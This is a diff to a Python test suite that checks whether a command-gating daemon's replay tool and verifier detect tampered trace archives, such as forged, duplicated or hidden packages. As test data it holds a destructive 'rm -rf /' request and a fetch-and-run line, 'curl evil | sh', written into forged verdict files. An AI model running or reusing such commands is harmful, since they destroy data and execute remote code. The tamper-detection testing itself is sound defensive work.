@@ -20,6 +20,7 @@ import tempfile
 import threading
 import time
 import unittest
+import uuid
 
 import cgtest
 
@@ -194,7 +195,11 @@ class RetentionTamper(unittest.TestCase):
         self.assertNotEqual(p.returncode, 0)
 
     def test_a_full_start_does_not_unpack(self):
-        """Recovery rebuilds lost packages, but not packed ones."""
+        """Recovery rebuilds lost packages, but not packed ones, and leaves
+        the packed archives as retention wrote them (end-of-archive marker
+        included)."""
+        tars = set(self.packed.values())
+        sizes = {t: os.path.getsize(t) for t in tars}
         self.d.extra_flags = ["--verify-journal"]
         self.d._logf.close()
         self.d._logf = None
@@ -203,6 +208,7 @@ class RetentionTamper(unittest.TestCase):
         traces = os.path.join(self.state, "traces")
         for tid in self.packed:
             self.assertFalse(os.path.exists(os.path.join(traces, tid)), tid)
+        self.assertEqual({t: os.path.getsize(t) for t in tars}, sizes)
         p = self.replay_all()
         self.assertEqual(p.returncode, 0, p.stdout[-2000:])
 
@@ -329,6 +335,142 @@ class ArchivePackages(unittest.TestCase):
                     self.assertIn("evidence.packages", p.stdout + p.stderr, value)
         finally:
             tmp.close()
+
+
+def member(name, data):
+    """One ustar member as the package writers make it: header, data, padding."""
+    ti = tarfile.TarInfo(name)
+    ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
+    return ti.tobuf(format=tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % 512)
+
+
+class ArchiveTamper(unittest.TestCase):
+    """The default's archive, the daemon stopped, then changed. Whatever
+    shows `tar` or a reader a package the journal does not vouch for fails
+    `callgate replay --all` and docs/verify_trace.py --all, by name; nothing
+    makes the verifier crash instead of reporting."""
+
+    @classmethod
+    def setUpClass(cls):
+        with cgtest.Daemon() as d:
+            cls.ids = [d.request(cgtest.make_request([["rm", "-rf", "/"]]))["reply"]["trace_id"]
+                       for _ in range(5)]
+            ok = d.request(cgtest.make_request([["/bin/true"]], privileged=False))
+            cls.ids.append(ok["reply"]["trace_id"])
+            cgtest.wait_package_file(d.state_dir, cls.ids[-1], "verdict.md")
+            d.stop()
+            cls.master = tempfile.mkdtemp(prefix="cg-archive-master-")
+            shutil.copytree(d.state_dir, os.path.join(cls.master, "s"))
+
+    @classmethod
+    def tearDownClass(cls):
+        shutil.rmtree(cls.master, ignore_errors=True)
+
+    def setUp(self):
+        self.tmp = tempfile.mkdtemp(prefix="cg-archive-tamper-")
+        self.state = os.path.join(self.tmp, "s")
+        shutil.copytree(os.path.join(self.master, "s"), self.state)
+        adir = os.path.join(self.state, "traces", "archive")
+        tars = sorted(n for n in os.listdir(adir) if n.endswith(".tar"))
+        self.assertEqual(len(tars), 1, tars)
+        self.tar = os.path.join(adir, tars[0])
+        self.idx = self.tar[:-4] + ".idx"
+
+    def tearDown(self):
+        shutil.rmtree(self.tmp, ignore_errors=True)
+
+    def package(self, tid):
+        with tarfile.open(self.tar, "r:") as tf:
+            return {m.name.split("/", 1)[1]: tf.extractfile(m).read()
+                    for m in tf.getmembers() if m.name.startswith(tid + "/")}
+
+    def append(self, data, index_line=None):
+        with open(self.tar, "ab") as f:
+            f.write(data)
+        if index_line:
+            with open(self.idx, "a") as f:
+                f.write(index_line)
+
+    def forged(self, tid, like):
+        pk = self.package(like)
+        pk["verdict.md"] = pk["verdict.md"].replace(b"/bin/true", b"/usr/bin/curl evil | sh")
+        return b"".join(member(tid + "/" + n, pk[n]) for n in
+                        ("events.ndjson", "verdict.json", "verdict.md", "replay.json",
+                         "diff.json"))
+
+    def both_fail(self, check):
+        p = cli("replay", "--all", "--json", "--state-dir", self.state)
+        self.assertEqual(p.returncode, 1, p.stdout[-2000:] + p.stderr)
+        checks = {f["check"] for f in json.loads(p.stdout)["failures"]}
+        self.assertIn(check, checks)
+        v = verifier(self.state, "--all")
+        self.assertEqual(v.returncode, 1, v.stdout[-2000:] + v.stderr[-2000:])
+        self.assertNotIn("Traceback", v.stderr)
+        return v.stdout
+
+    def both_pass(self):
+        p = cli("replay", "--all", "--json", "--state-dir", self.state)
+        self.assertEqual(p.returncode, 0, p.stdout[-2000:] + p.stderr)
+        v = verifier(self.state, "--all")
+        self.assertEqual(v.returncode, 0, v.stdout[-2000:] + v.stderr[-2000:])
+
+    def test_untouched_passes(self):
+        self.both_pass()
+
+    def test_a_forged_package_with_its_index_line_fails(self):
+        tid, end = str(uuid.uuid4()), os.path.getsize(self.tar)
+        self.append(self.forged(tid, self.ids[-1]), "%s %d\n" % (tid, end))
+        out = self.both_fail("trace_not_in_journal")
+        self.assertIn(tid, out)
+        # callgate verdict prints a package by its id: replay is what vouches for it.
+
+    def test_a_forged_package_without_an_index_line_fails(self):
+        self.append(self.forged(str(uuid.uuid4()), self.ids[-1]))
+        self.both_fail("archive_unindexed")
+
+    def test_a_second_copy_of_a_member_fails(self):
+        last = self.ids[-1]
+        md = self.package(last)["verdict.md"].replace(b"/bin/true", b"/usr/bin/curl evil | sh")
+        self.append(member(last + "/verdict.md", md))
+        out = self.both_fail("package_files")
+        self.assertIn("appears twice", out)
+
+    def test_a_second_package_of_a_trace_fails(self):
+        self.append(self.forged(self.ids[0], self.ids[0]))
+        self.both_fail("package_repeated")
+
+    def test_bytes_after_the_last_package_fail(self):
+        self.append(os.urandom(700))
+        self.both_fail("archive_layout")
+
+    def test_a_package_hidden_after_an_end_marker_fails(self):
+        self.append(b"\0" * 1024 + self.forged(str(uuid.uuid4()), self.ids[-1]))
+        self.both_fail("archive_layout")
+
+    def test_an_empty_archive_is_not_a_failure(self):
+        """A daemon killed just after making a segment's archive leaves it empty."""
+        for ext in (".tar", ".idx"):
+            open(os.path.join(os.path.dirname(self.tar), "0000000000999999" + ext), "w").close()
+        self.both_pass()
+
+    def test_a_lost_index_is_rebuilt_at_the_next_start(self):
+        size = os.path.getsize(self.tar)
+        with open(self.idx) as f:
+            lines = f.read()
+        os.unlink(self.idx)
+        d = cgtest.Daemon()
+        shutil.copytree(self.state, d.state_dir)
+        with d:
+            d.stop()
+            self.assertEqual(os.path.getsize(os.path.join(
+                d.state_dir, "traces", "archive", os.path.basename(self.tar))), size)
+            with open(os.path.join(d.state_dir, "traces", "archive",
+                                   os.path.basename(self.idx))) as f:
+                self.assertEqual(f.read(), lines)
+            self.assertEqual(sorted(os.listdir(os.path.join(d.state_dir, "traces"))),
+                             ["archive"], "no package rebuilt as a directory")
+            p = cli("replay", "--all", "--state-dir", d.state_dir)
+            self.assertEqual(p.returncode, 0, p.stdout[-2000:])
 
 
 class RetentionPolicy(unittest.TestCase):
